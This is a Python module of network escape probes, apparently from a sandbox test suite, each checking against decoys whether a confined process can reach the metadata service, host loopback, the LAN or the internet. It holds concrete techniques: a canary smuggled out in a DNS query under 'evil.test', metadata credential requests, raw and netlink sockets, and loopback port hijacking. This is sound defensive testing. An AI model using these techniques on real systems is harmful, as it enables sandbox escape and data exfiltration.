"""The network: reaching anything at all except through the one way out."""

from __future__ import annotations

import errno
import os
import socket
import struct

from .attack import Blocked, Facts, NotHere, any_of, attack, reached, read
from .calls import in_child

_VSOCK, _ALG, _NETLINK, _PACKET, _BLUETOOTH, _XDP, _CAN = 40, 38, 16, 17, 31, 44, 29


def _reach(facts: Facts, place: str) -> str:
    """Talk to a decoy; where there is none, look for a way to it without sending anything."""
    address, port = _place(facts, place)
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    if facts.own_network or place.startswith("loopback"):
        with socket.socket(family) as tcp:
            tcp.settimeout(2)
            tcp.connect((address, port))
            if facts.canary.encode() in tcp.recv(256):
                return f"talked to {address}:{port}"
        raise Blocked("somebody else answered")
    with socket.socket(family, socket.SOCK_DGRAM) as udp:
        udp.connect((address, port))
    return f"there is a way to {address}"


def _place(facts: Facts, place: str) -> tuple[str, int]:
    if place not in facts.places:
        raise NotHere("this host has no such address")
    address, port = facts.places[place]
    return address, port


@attack("network")
def net_metadata_169(facts: Facts) -> str:
    """Ask the cloud's metadata service for the machine's credentials."""
    return _reach(facts, "metadata")


@attack("network")
def net_host_loopback(facts: Facts) -> str:
    """Reach a service that listens on the host's 127.0.0.1."""
    return _reach(facts, "loopback")


@attack("network")
def net_host_loopback6(facts: Facts) -> str:
    """Reach a service that listens on the host's ::1."""
    return _reach(facts, "loopback6")


@attack("network")
def net_internet_ip(facts: Facts) -> str:
    """Reach a server on the internet by its address."""
    return _reach(facts, "internet")


@attack("network")
def net_internet_ip6(facts: Facts) -> str:
    """Reach a server on the internet by its IPv6 address."""
    return _reach(facts, "internet6")


@attack("network")
def net_lan_gateway(facts: Facts) -> str:
    """Reach a machine of the local network."""
    return _reach(facts, "lan")


@attack("network")
def net_host_docker_internal(_facts: Facts) -> str:
    """Find the host by the names that container engines give it."""
    names = ("host.docker.internal", "gateway.docker.internal", "host.containers.internal")

    def one(name: str) -> str:
        return f"{name} is {socket.gethostbyname(name)}"

    return any_of([lambda n=name: one(n) for name in names])


def _question(facts: Facts) -> bytes:
    label = facts.canary.encode()[:40]
    name = bytes([len(label)]) + label + b"\x04evil\x04test\0"
    return b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + name + b"\0\x01\0\x01"


@attack("network", proof=True)
def dns_exfil(facts: Facts) -> str:
    """Carry a secret out inside a question for a name."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(_question(facts), _place(facts, "dns"))
    return "asked"


@attack("network", seconds=8.0)
def dns_resolver(_facts: Facts) -> str:
    """Have the box's own resolver ask for a name."""
    servers = [
        line.split()[1]
        for line in read("/etc/resolv.conf").decode().splitlines()
        if line.startswith("nameserver")
    ]

    def one(server: str) -> str:
        family = socket.AF_INET6 if ":" in server else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as udp:
            udp.connect((server, 53))
        return f"there is a way to the name server {server}"

    return any_of([lambda s=server: one(s) for server in servers])


@attack("network")
def raw_socket(_facts: Facts) -> str:
    """Write packets by hand."""
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    return "has a raw socket"


@attack("network")
def raw_socket6(_facts: Facts) -> str:
    """Write IPv6 packets by hand."""
    socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6).close()
    return "has a raw socket"


@attack("network")
def packet_socket(_facts: Facts) -> str:
    """Listen to everything on the wire."""
    socket.socket(_PACKET, socket.SOCK_RAW, 0).close()
    return "has a packet socket"


@attack("network")
def ping_dgram(_facts: Facts) -> str:
    """Send echo requests, which can carry a secret."""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).close()
    return "has a socket for it"


@attack("seccomp")
def vsock_socket(_facts: Facts) -> str:
    """Talk to the hypervisor, past every network namespace; nothing is connected."""
    socket.socket(_VSOCK, socket.SOCK_STREAM, 0).close()
    return "has a socket to the hypervisor"


@attack("seccomp")
def alg_socket(_facts: Facts) -> str:
    """Use the kernel's ciphers, the source of many holes."""
    socket.socket(_ALG, socket.SOCK_SEQPACKET, 0).close()
    return "has a socket to the kernel's ciphers"


@attack("seccomp")
def netlink_exotic(_facts: Facts) -> str:
    """Talk to parts of the kernel that manage firewalls, audit, devices and connections."""

    def one(number: int) -> str:
        socket.socket(_NETLINK, socket.SOCK_RAW, number).close()
        return f"has a netlink socket of kind {number}"

    return any_of([lambda n=number: one(n) for number in (9, 12, 15, 16, 6, 4)])


@attack("seccomp")
def exotic_families(_facts: Facts) -> str:
    """Make sockets of families that nobody needs in a box."""

    def one(family: int, kind: int) -> str:
        socket.socket(family, kind, 0).close()
        return f"has a socket of family {family}"

    kinds = ((_XDP, 3), (_BLUETOOTH, 3), (_CAN, 3), (21, 5), (30, 5), (43, 1), (5, 2), (9, 5))
    return any_of([lambda f=family, k=kind: one(f, k) for family, kind in kinds])


@attack("network")
def net_bridge_admin(_facts: Facts) -> str:
    """Make a device or change an address of the network."""
    with socket.socket(_NETLINK, socket.SOCK_RAW, 0) as link:
        link.settimeout(2)
        name = b"evil0\0\0\0"
        body = struct.pack("BxHiII", 0, 0, 0, 0, 0)
        body += struct.pack("HH", 4 + len(name), 3) + name
        kind = struct.pack("HH", 9, 1) + b"dummy\0\0\0"
        body += struct.pack("HH", 4 + len(kind), 18) + kind
        # NLM_F_REQUEST | NLM_F_ACK without NLM_F_CREATE: it is judged, but never made.
        link.send(struct.pack("IHHII", 16 + len(body), 16, 5, 1, 0) + body)
        answer = link.recv(4096)
    number = -struct.unpack_from("i", answer, 16)[0]
    error = OSError(number, os.strerror(number))
    if _empty():
        raise NotHere("an own empty network is nobody's to spoil")
    return reached(error, errno.ENODEV, errno.EOPNOTSUPP, 0)


def _empty() -> bool:
    return set(os.listdir("/proc/sys/net/ipv4/conf")) <= {"all", "default", "lo"}


@attack("network")
def net_own_loopback(facts: Facts) -> str:
    """Take the port of a service of the host on 127.0.0.1, to be mistaken for it."""
    with socket.socket() as tcp:
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        tcp.bind(("127.0.0.2", facts.places["loopback"][1]))
        tcp.listen()
        tcp.setblocking(False)
    if int(read("/proc/sys/net/ipv4/ip_local_port_range").split()[0]) and _shared(facts):
        return "listens beside a service of the host"
    raise Blocked("it is the box's own loopback")


def _shared(facts: Facts) -> bool:
    """Whether the decoy's port is listed among the sockets that listen here."""
    port = f":{facts.places['loopback'][1]:04X} "
    return port in read("/proc/net/tcp", 1 << 20).decode()


@attack("network")
def net_see_sockets(facts: Facts) -> str:
    """See which connections the host has."""
    if _shared(facts):
        return "the sockets of the host are listed"
    raise Blocked("only the box's own are listed")


@attack("network")
def net_interfaces(_facts: Facts) -> str:
    """Find an interface besides loopback."""
    found = [name for _, name in socket.if_nameindex() if name != "lo"]
    up = [name for name in found if not name.startswith(("sit", "tunl", "gre", "ip6", "erspan"))]
    if up:
        return f"has {', '.join(up)}"
    raise Blocked("there is only loopback")


@attack("network")
def net_fast_open(facts: Facts) -> str:
    """Send data with the first packet of a connection, before a filter of `connect` looks."""
    address, port = _place(facts, "loopback")
    with socket.socket() as tcp:
        tcp.sendto(b"hello", 0x20000000, (address, port))
        tcp.settimeout(2)
        if facts.canary.encode() in tcp.recv(256):
            return f"talked to {address}:{port}"
    raise Blocked("somebody else answered")


@attack("network")
def net_multicast(_facts: Facts) -> str:
    """Announce oneself to all machines of the local network."""

    def work() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.connect(("224.0.0.251", 5353))
        return "there is a way to all machines"

    return in_child(work)
